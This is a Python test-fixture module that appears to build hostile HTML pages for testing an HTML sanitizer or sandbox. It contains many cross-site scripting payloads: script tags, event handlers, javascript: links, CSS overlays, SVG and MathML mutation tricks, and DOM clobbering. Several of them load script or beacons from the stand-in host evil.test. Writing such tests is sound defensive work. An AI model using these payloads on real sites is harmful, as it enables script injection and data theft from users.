"""Pages that try to get out: each calls ``/pwned`` or the machine ``evil.test`` if it succeeds, or says so aloud."""

# ruff: noqa: E501 - attacks are easier to read in one piece
from __future__ import annotations

from typing import Final

_RUN: Final = "parent.pwned=1;alert(1);fetch('/pwned')"
_TEXT: Final = "<p>A paragraph of honest text, long enough to be a block of its own on any page at all.</p>"
_BODIES: Final = {
    "scripts": f"<script>{_RUN}</script><script src=//evil.test/x.js></script><script type=module>{_RUN}</script>"
    "<SCRIPT/x>alert(1)</SCRIPT ><noscript><img src=//evil.test/n></noscript>",
    "handlers": f'<body onload="{_RUN}"><img src=x onerror="{_RUN}"><p onmouseover="{_RUN}" onclick="{_RUN}">Hover over this text, '
    f'please, and click on it as well.</p><details open ontoggle="{_RUN}"><summary>More to see</summary></details>'
    f'<input autofocus onfocus="{_RUN}"><marquee onstart="{_RUN}">moving text</marquee><video onerror="{_RUN}"><source src=x></video>',
    "links": f'<a href="javascript:{_RUN}">A link to click</a> <a href=" java&#10;script:{_RUN}">another one</a>'
    '<a href="//evil.test/" target=_top>A way out to the top</a> <a href="data:text/html,<script>alert(1)</script>">data</a>'
    '<a href="//evil.test/p" ping="//evil.test/ping" target=_blank>A new window</a><map><area href=//evil.test/></map>',
    "css": "<style>@import '//evil.test/a.css'; body{background:url(//evil.test/b)} @font-face{font-family:f;src:url(//evil.test/f)}"
    "p{font-family:f;list-style-image:url(//evil.test/l);cursor:url(//evil.test/c),auto} #cover{position:fixed;inset:0;z-index:99999;"
    "background:#f00;opacity:1} *{pointer-events:none!important} p{display:none!important;visibility:hidden}</style>"
    "<div id=cover style='position:fixed;top:0;left:0;width:9999px;height:9999px;background:url(//evil.test/s)'></div>"
    "<link rel=stylesheet href=//evil.test/x.css><link rel=preload as=image href=//evil.test/p>",
    "breaking out of style": f"<style>p{{}}</style/><svg><style>&lt;/style>&lt;img src=x onerror={_RUN}></style></svg>"
    f'<p style="color:red&quot;onmouseover=&quot;{_RUN}">Text with a broken style attribute in it.</p>'
    f'<p class="&quot;><img src=x onerror={_RUN}>">Text with a broken class in it, for a change.</p>',
    "base": "<base href=//evil.test/ target=_top><img src=x.png><a href=y.html>A relative link</a>",
    "meta": "<meta http-equiv=refresh content='0;url=//evil.test/'><meta http-equiv=refresh content='0;url=javascript:alert(1)'>"
    '<meta http-equiv=Content-Security-Policy content="default-src *"><meta http-equiv=set-cookie content=a=b>',
    "forms": f'<form action=//evil.test/ target=_top id=f><input name=q value=1><button formaction="javascript:{_RUN}">Press this button'
    "</button><input type=image src=//evil.test/i></form><button form=f type=submit>Send the form</button><select onchange=x><option>a"
    "</select><textarea autofocus></textarea><isindex action=//evil.test/>",
    "frames": f'<iframe src=//evil.test/></iframe><iframe srcdoc="<script>{_RUN}</script>"></iframe><object data=//evil.test/o></object>'
    "<embed src=//evil.test/e><frameset><frame src=//evil.test/></frameset><portal src=//evil.test/></portal><applet code=x></applet>",
    "svg": f'<svg onload="{_RUN}"><script>{_RUN}</script><image href=//evil.test/i /><use href="//evil.test/u#x"/><foreignObject>'
    f'<iframe srcdoc="<script>{_RUN}</script>"></iframe></foreignObject><animate onbegin="{_RUN}" attributeName=x dur=1s />'
    f'<a xlink:href="javascript:{_RUN}"><text>click</text></a></svg>',
    "mathml": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;"></mglyph></table></mtext>'
    f'<maction actiontype=statusline xlink:href="javascript:{_RUN}">click here</maction><annotation-xml encoding=text/html>'
    f'<img src=x onerror="{_RUN}"></annotation-xml></math>',
    "mutations": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript><template><img src=x onerror="{_RUN}"></template>'
    f'<xmp><img src=x onerror="{_RUN}"></xmp><listing>&lt;img src=x onerror={_RUN}&gt;</listing><plaintext><img src=x onerror={_RUN}>',
    "media": "<img src=//evil.test/1 srcset='//evil.test/2 2x'><picture><source srcset=//evil.test/3><img src=//evil.test/4></picture>"
    "<video src=//evil.test/5 poster=//evil.test/6 autoplay></video><audio src=//evil.test/7 autoplay></audio><body background=//evil.test/8>"
    "<table background=//evil.test/9><tr><td>a cell of text</table><input type=image src=//evil.test/10>",
    "clobbering": "<form id=document><img name=querySelectorAll><img name=body id=contentDocument></form><a id=defaultView></a>"
    "<p data-b=0 data-s=k data-sel>Text that says it is a block.</p><iframe name=parent></iframe>",
}
PAGES: Final = {name: f"<!DOCTYPE html><title>t</title>{_TEXT}{body}{_TEXT}" for name, body in _BODIES.items()}
